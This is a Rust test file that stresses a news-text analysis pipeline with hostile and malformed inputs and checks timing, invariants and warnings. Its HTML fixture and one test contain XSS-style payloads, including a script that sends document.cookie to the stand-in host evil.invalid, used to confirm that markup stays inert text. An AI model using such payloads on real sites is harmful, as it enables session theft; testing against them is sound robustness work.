//! Hostile inputs: shapes people (or their clipboards) really paste, blown up to a large size.
//! Each must finish in time, never panic (stages are called without the pipeline's guard) and
//! keep every invariant of `tests/invariants`. Plus: the size cap, the not-an-article warnings,
//! and one regression test per bug found by the property tests and the fuzzer.
//!
//! Size: `LEDE_HOSTILE_BYTES` (default 64 KiB so `cargo test` stays fast; `make fuzz` runs
//! 1 MiB with an optimised build). The regression tests for hangs always use 1 MiB. Time limit per input and mode: `LEDE_HOSTILE_SECS` (60).
#![cfg(not(target_arch = "wasm32"))]

mod invariants;

use invariants::{assert_ok, check_all, run_stages_unguarded};
use lede::pipeline::{self, Options};
use std::sync::mpsc;
use std::time::{Duration, Instant};

fn size() -> usize {
    std::env::var("LEDE_HOSTILE_BYTES").ok().and_then(|s| s.parse().ok()).unwrap_or(64 * 1024)
}

fn time_limit() -> Duration {
    Duration::from_secs(std::env::var("LEDE_HOSTILE_SECS").ok().and_then(|s| s.parse().ok()).unwrap_or(60))
}

/// `unit` repeated until the text is about `n` bytes.
fn rep(unit: &str, n: usize) -> String {
    unit.repeat((n / unit.len().max(1)).max(1))
}

/// Pseudo-random but fixed: the same hostile text on every run.
fn lcg(seed: &mut u64) -> u64 {
    *seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
    *seed >> 33
}

fn zalgo(n: usize) -> String {
    let mut seed = 7;
    let mut out = String::with_capacity(n);
    for word in "Iran said the talks in Oman were over".split(' ').cycle() {
        if out.len() >= n {
            break;
        }
        for c in word.chars() {
            out.push(c);
            for _ in 0..(lcg(&mut seed) % 12) {
                out.push(char::from_u32(0x300 + (lcg(&mut seed) % 0x70) as u32).unwrap());
            }
        }
        out.push(' ');
    }
    out
}

fn binary_junk(n: usize) -> String {
    let mut seed = 42;
    let bytes: Vec<u8> = (0..n).map(|_| lcg(&mut seed) as u8).collect();
    String::from_utf8_lossy(&bytes).into_owned()
}

fn many_names(n: usize) -> String {
    // distinct titled people: stresses grouping (surname lookup) and overlap resolution
    let mut out = String::with_capacity(n);
    let mut i = 0u32;
    while out.len() < n {
        let a = char::from(b'A' + (i % 26) as u8);
        let b = char::from(b'A' + (i / 26 % 26) as u8);
        out.push_str(&format!("Mr. {a}{b}lex {b}{a}rton{i} met President {a}ana {b}ole{i}. "));
        i += 1;
    }
    out
}

fn html_page(n: usize) -> String {
    let block = "<div class=\"story\"><script>alert('x');document.location='http://evil.invalid/'+document.cookie</script>\
        <p onclick=\"steal()\">Iran said the talks in Muscat, Oman, would resume, officials said.</p>\
        <img src=x onerror=alert(1)><style>body{display:none}</style><!-- comment --></div>\n";
    format!("<!DOCTYPE html><html><head><title>News</title></head><body>\n{}</body></html>", rep(block, n))
}

/// The table: (name, input of about `n` bytes).
fn hostile_inputs(n: usize) -> Vec<(&'static str, String)> {
    let sentence = "Officials said that Iran and the United States \u{2014} \u{201c}reportedly\u{201d} \u{2014} met in Muscat. ";
    vec![
        ("empty string", String::new()),
        ("one space", " ".into()),
        ("spaces", rep(" ", n)),
        ("100k newlines", "\n".repeat(100_000)),
        ("CR only line ends", rep("Iran said no.\r", n)),
        ("CRLF flood", rep("\r\n", n)),
        ("tabs and nbsp", rep("\t\u{a0} \u{2009}", n)),
        ("straight quotes", rep("\"", n)),
        ("curly quotes", rep("\u{201c}", n)),
        ("nested quotes", rep("\u{201c}\u{2018}\"'\u{ab}", n) + &rep("\u{bb}'\"\u{2019}\u{201d}", n)),
        ("open parens", rep("(", n)),
        ("closing brackets", rep(")]}", n)),
        ("angle brackets", rep("<", n)),
        ("periods", rep(".", n)),
        ("dashes", rep("-", n)),
        ("apostrophes in a word", rep("a'", n)),
        ("one huge token", rep("a", n)),
        ("one huge capitalised token", "A".to_string() + &rep("b", n)),
        ("one huge number", rep("1", n)),
        ("number with separators", rep("1,0", n) + "0"),
        ("dotted initials", rep("U.", n)),
        ("camel seams in one token", rep("abcdEfgh", n)),
        ("punctuation seams in one token", rep("ab,cd.Ef:", n)),
        ("one line no punctuation", rep("officials said Iran ", n)),
        ("control chars", rep(&(0u8..32).map(char::from).collect::<String>(), n)),
        ("NUL bytes in words", rep("Iran\0said\0", n)),
        ("replacement chars", rep("\u{fffd}", n)),
        ("binary junk (lossy)", binary_junk(n)),
        ("BOM flood", rep("\u{feff}", n)),
        ("BOMs between words", rep("\u{feff}Iran\u{feff} said\u{feff} ", n)),
        ("zero-width joiners", rep("Ira\u{200d}n\u{200b} ", n)),
        ("soft hyphens", rep("ne\u{ad}go\u{ad}ti\u{ad}a\u{ad}tions ", n)),
        ("RTL text and marks", rep("\u{200f}\u{5e9}\u{5dc}\u{5d5}\u{5dd} Iran \u{202e}\u{645}\u{631}\u{62d}\u{628}\u{627} said\u{202c}. ", n)),
        ("bidi override flood", rep("\u{202e}\u{202d}\u{2066}\u{2069}", n)),
        ("combining mark flood", "a".to_string() + &rep("\u{301}", n)),
        ("zalgo", zalgo(n)),
        ("emoji ZWJ sequences", rep("\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f1ee}\u{1f1f7}\u{1f44d}\u{1f3fd} ", n)),
        ("astral letters", rep("\u{1d400}\u{1d401} \u{10400}\u{10401} ", n)),
        ("title chain", rep("President ", n)),
        ("Mr chain", rep("Mr. ", n)),
        ("cue chain", rep("said ", n)),
        ("according to chain", rep("according to ", n)),
        ("contention chain", rep("point of contention ", n)),
        ("country chain", rep("Iran ", n)),
        ("same name many times", rep("Donald Trump said. Trump said. ", n)),
        ("many distinct names", many_names(n)),
        ("many distinct surnames", (0..n / 16).map(|i| format!("Mr. Xo{i} said. ")).collect::<String>()),
        ("duplicate headline lines", rep("Talks Stall\n", n)),
        ("trailer junk lines", rep("og:image\n", n)),
        ("one giant paragraph", rep(sentence, n)),
        ("one sentence per line", rep(sentence.trim_end(), n / 2).replace(". ", ".\n")),
        ("html page with script", html_page(n)),
        ("url and emails", rep("http://x.invalid/a?b=c&d=e a@b.invalid #tag www.x.invalid ", n)),
    ]
}

/// Runs `f` on a thread; `Err` if it panics or takes longer than the limit (a hang or a
/// quadratic stage: the thread is left behind, the test process ends it).
fn within_limit(name: &str, f: impl FnOnce() + Send + 'static) -> Result<Duration, String> {
    let (tx, rx) = mpsc::channel();
    let started = Instant::now();
    std::thread::spawn(move || {
        let outcome = std::panic::catch_unwind(std::panic::AssertUnwindSafe(f));
        let _ = tx.send(outcome);
    });
    match rx.recv_timeout(time_limit()) {
        Ok(Ok(())) => Ok(started.elapsed()),
        Ok(Err(panic)) => {
            let msg = panic.downcast_ref::<String>().cloned().or_else(|| panic.downcast_ref::<&str>().map(|s| s.to_string()));
            Err(format!("{name}: panicked: {}", msg.unwrap_or_default()))
        }
        Err(_) => Err(format!("{name}: no result after {:?} (hang or quadratic stage?)", time_limit())),
    }
}

/// Every stage, unguarded, with and without cleaning; every invariant (offsets sampled).
fn check_hostile(name: &'static str, text: String) -> Result<Duration, String> {
    within_limit(name, move || {
        // to_original is O(edits) per offset: sample about 256 offsets
        let step = (text.len() / 256).max(1);
        for clean in [true, false] {
            let doc = run_stages_unguarded(&text, clean);
            let problems = check_all(&doc, step);
            assert!(problems.is_empty(), "clean: {clean}: {}", problems.join("\n  "));
        }
    })
}

/// Inputs that currently hang or break an invariant, with the owner of the stage at fault.
/// They are left out of the table test; each has an ignored regression test below. (Empty:
/// the last one, CR-only line ends through the old claims stage, is fixed.)
const KNOWN_BUGS: &[(&str, &str)] = &[
];

#[test]
fn hostile_inputs_finish_and_keep_every_invariant() {
    let n = size();
    let (mut report, mut failures) = (Vec::new(), Vec::new());
    for (name, text) in hostile_inputs(n) {
        if KNOWN_BUGS.iter().any(|(k, _)| *k == name) {
            report.push(format!("{name:32} skipped: known bug"));
            continue;
        }
        let bytes = text.len();
        match check_hostile(name, text) {
            Ok(took) => report.push(format!("{name:32} {bytes:>9} bytes {:>8.2} s", took.as_secs_f64())),
            Err(e) => failures.push(e),
        }
    }
    eprintln!("hostile inputs at about {n} bytes:\n  {}", report.join("\n  "));
    assert!(failures.is_empty(), "{} hostile input(s) failed:\n  {}", failures.len(), failures.join("\n  "));
}

/// Runs one named row of the table at `n` bytes (for the regression tests below).
fn check_named(name: &str, n: usize) {
    let (name, text) = hostile_inputs(n).into_iter().find(|(n, _)| *n == name).expect("a row of the table");
    if let Err(e) = check_hostile(name, text) {
        panic!("{e}");
    }
}

// ---- size cap ----

#[test]
fn a_text_over_the_limit_is_annotated_up_to_a_paragraph_and_kept_whole() {
    let para = "Iran said the talks in Muscat would resume, officials said.\n\n";
    let text = para.repeat(40);
    let limit = para.len() * 10 + 5;
    let doc = pipeline::analyze_with_limit(&text, &Options { clean: false }, limit);
    assert_eq!(doc.text, text, "the whole text is kept");
    let w: Vec<_> = doc.warnings.iter().filter(|w| w.code == "truncated").collect();
    assert_eq!(w.len(), 1, "one truncated warning: {:?}", doc.warnings);
    assert!(w[0].message.contains("end of a paragraph"), "{}", w[0].message);
    let cut = para.len() * 10 - 2; // before the blank line of the tenth paragraph
    assert!(doc.mentions.iter().all(|m| m.span.end <= cut), "nothing annotated past the cut");
    assert_eq!(doc.mentions.iter().filter(|m| doc.slice(m.span) == "Iran").count(), 10);
    assert_ok(&doc, 1);
}

#[test]
fn a_text_under_the_limit_gets_no_truncated_warning() {
    let doc = pipeline::analyze("Iran said no.", &Options::default());
    assert!(!doc.warnings.iter().any(|w| w.code == "truncated"));
}

#[test]
fn the_real_limit_cuts_a_six_mebibyte_paste() {
    let text = "x".repeat(6 * 1024 * 1024);
    let doc = pipeline::analyze(&text, &Options { clean: false });
    assert_eq!(doc.text.len(), text.len());
    let w = doc.warnings.iter().find(|w| w.code == "truncated").expect("truncated warning");
    assert!(w.message.contains("6.0 MB") && w.message.contains("5.0 MB"), "{}", w.message);
    assert!(doc.tokens.iter().all(|t| t.span.end <= pipeline::limits::MAX_ANNOTATED_BYTES));
}

// ---- not an article: few annotations and a warning ----

/// (what, input, expected warning code, max mentions, max claims, max disputes)
fn non_articles() -> Vec<(&'static str, String, &'static str, usize, usize, usize)> {
    let table = (0..60).map(|i| format!("{}\t{}.{}\t{}\t{}%\n", 1990 + i, i * 3, i % 10, i * 17 % 101, i % 7)).collect();
    let code = "use std::io;\n\nfn main() {\n    let said = read();\n    // the officials said nothing\n    if said > 0 {\n        println!(\"Iran said {}\", said);\n    }\n}\n\nfn read() -> u32 {\n    return 4;\n}\n".repeat(5);
    let names = ["Alice Moreau", "Bilal Haddad", "Chen Wei", "Dana Levi", "Erik Sund", "Fatima Zahra", "Gustavo Lima"]
        .iter()
        .cycle()
        .take(40)
        .map(|n| format!("{n}\n"))
        .collect();
    let spanish = "Las conversaciones entre los dos países se reanudaron el martes en Mascate, según funcionarios. \
        El ministro de Asuntos Exteriores dijo a los periodistas que ambas partes acordaron reunirse de nuevo la próxima semana. "
        .repeat(4);
    let arabic = "استؤنفت المحادثات بين البلدين يوم الثلاثاء في مسقط، حسبما قال مسؤولون. وقال وزير الخارجية للصحفيين إن الطرفين اتفقا على الاجتماع مرة أخرى الأسبوع المقبل. ".repeat(4);
    vec![
        ("table of numbers", table, "not_article", 0, 0, 0),
        ("program code", code, "not_article", 5, 5, 0),
        ("list of names", names, "not_article", 40, 0, 0),
        ("html page", html_page(4000), "not_article", 200, 40, 0),
        ("Spanish article", spanish, "not_english", 8, 4, 0), // `Mascate`, `Asuntos Exteriores` per copy: real names
        ("Arabic article", arabic, "not_english", 0, 0, 0),
        ("binary junk", binary_junk(4000), "garbled", 5, 2, 0),
        ("only whitespace", " \n\t\u{200b} ".repeat(50), "empty", 0, 0, 0),
    ]
}

const NUMERIC_TYPES: &[&str] = &["CARDINAL", "ORDINAL", "MONEY", "PERCENT", "QUANTITY", "DATE", "TIME"];

#[test]
fn non_articles_get_a_warning_and_few_annotations() {
    for (what, text, code, max_mentions, max_claims, max_disputes) in non_articles() {
        let doc = pipeline::analyze(&text, &Options::default());
        assert_ok(&doc, 1);
        let codes: Vec<&str> = doc.warnings.iter().map(|w| w.code).collect();
        assert!(codes.contains(&code), "{what}: expected a {code} warning, got {codes:?}");
        let w = doc.warnings.iter().find(|w| w.code == code).unwrap();
        assert!(w.message.len() > 30 && w.message.ends_with('.'), "{what}: a human message, got {:?}", w.message);
        // numbers in a table or code are values (CARDINAL, MONEY, …), which is sensible; what
        // must stay rare there is names, claims and disputes
        let names = doc.mentions.iter().filter(|m| !NUMERIC_TYPES.contains(&m.label)).count();
        assert!(
            names <= max_mentions && doc.claims.len() <= max_claims && doc.disputes.len() <= max_disputes,
            "{what}: {} named mentions, {} claims, {} disputes (max {max_mentions}, {max_claims}, {max_disputes})",
            names,
            doc.claims.len(),
            doc.disputes.len()
        );
    }
}

#[test]
fn articles_get_no_not_article_warning() {
    for text in [include_str!("../seeds/000_d91da279460ebc95.txt"), include_str!("fixtures/own_article.txt")] {
        let doc = pipeline::analyze(text, &Options::default());
        let codes: Vec<&str> = doc.warnings.iter().map(|w| w.code).collect();
        assert!(codes.is_empty(), "an article got warnings {codes:?}");
    }
}

#[test]
fn pasted_markup_stays_inert_text() {
    // the core never interprets markup: the script is text, the same bytes as pasted
    let text = "<script>alert(1)</script> Iran said <b>no</b>.";
    let doc = pipeline::analyze(text, &Options { clean: false });
    assert_eq!(doc.text, text);
    let doc = pipeline::analyze(text, &Options::default());
    assert!(doc.text.contains("<script>alert(1)</script>"), "cleaning does not strip or rewrite markup: {:?}", doc.text);
    assert_ok(&doc, 1);
}

// ---- regressions found by the property tests and the fuzzer ----

fn clean_twice(text: &str) -> (String, String) {
    let once = pipeline::clean(text).text;
    let twice = pipeline::clean(&once).text;
    (once, twice)
}

/// Found by `cleaning_is_idempotent` (tests/props.rs): the join repair fixes one seam per
/// whitespace-delimited token and returns, so a token with two seams needs two passes.
/// Regression: the first cleaner repaired one seam per token per pass.
#[test]
fn clean_is_idempotent_on_two_seams_in_one_token() {
    for text in ["ab,cd,ef", "capabilities,regardedastheMiddle East", "program,rejecting;broader"] {
        let (once, twice) = clean_twice(text);
        assert_eq!(twice, once, "cleaning {text:?} twice");
    }
}

/// A headline printed three times loses one copy per pass (boilerplate removes the first of
/// two equal leading lines), so a second cleaning removes another.
/// Regression: a headline printed three times lost one copy per pass.
#[test]
fn clean_is_idempotent_on_a_triple_headline() {
    let (once, twice) = clean_twice("Talks Stall\n\nTalks Stall\n\nTalks Stall\n\nBody text.");
    assert_eq!(twice, once);
}

#[test]
fn clean_is_idempotent_on_single_repairs() {
    for text in ["program,rejecting", "Oman.The talks", "a\u{a0}\u{a0}b", "x\r\ny", "zero\u{200b}width", "one  two   three"] {
        let (once, twice) = clean_twice(text);
        assert_eq!(twice, once, "cleaning {text:?} twice");
    }
}

/// Regressions: shapes that hung (quadratic stages) before the fix named in each test, run at
/// 512 KiB where a quadratic stage takes minutes and the linear one seconds.
const HANG_SIZE: usize = 512 * 1024;

/// `President President …`: every title rescanned the whole name run after it
/// (entities::titled_people; fixed by skipping titles inside the previous run).
#[test]
fn no_hang_on_a_chain_of_titles() {
    check_named("title chain", HANG_SIZE);
    check_named("Mr chain", HANG_SIZE);
}

/// `Iran Iran Iran …`: every candidate was compared with every kept mention
/// (entities::resolve_overlaps; fixed with an ordered set of kept spans).
#[test]
fn no_hang_on_many_mentions() {
    check_named("country chain", HANG_SIZE);
    check_named("NUL bytes in words", HANG_SIZE);
}

/// `point of contention point of contention …` in one sentence: every cue scanned the rest of
/// the sentence for punctuation (disputes; fixed by looking at 300 bytes after the cue).
#[test]
fn no_hang_on_a_chain_of_contention_cues() {
    check_named("contention chain", HANG_SIZE);
}

/// `Iran said no.` on 75k lines: every claim looks for its source's mention by scanning all
/// mentions (claims::entity_in and claims::source_kind filter `doc.mentions` per claim), so
/// claims × mentions; 16k lines take 12 s in a debug build, 1 MiB over a minute optimised.
/// Fix: find the mentions inside a span by binary search on the (text-ordered) mentions.
/// Regression: the first claims stage was quadratic in claims x mentions.
#[test]
fn no_hang_on_many_claims() {
    check_named("CR only line ends", HANG_SIZE);
}

/// Regression: removing every repeat of the first line wiped a text that repeats one short
/// paragraph many times; only a headline printed two or three times is boilerplate.
#[test]
fn a_paragraph_repeated_many_times_is_not_a_headline() {
    let para = "Iran said talks in Oman would go ahead, according to officials.";
    let text = vec![para; 30].join("\n\n");
    let cleaned = pipeline::clean(&text).text;
    assert_eq!(cleaned.matches(para).count(), 30);
}
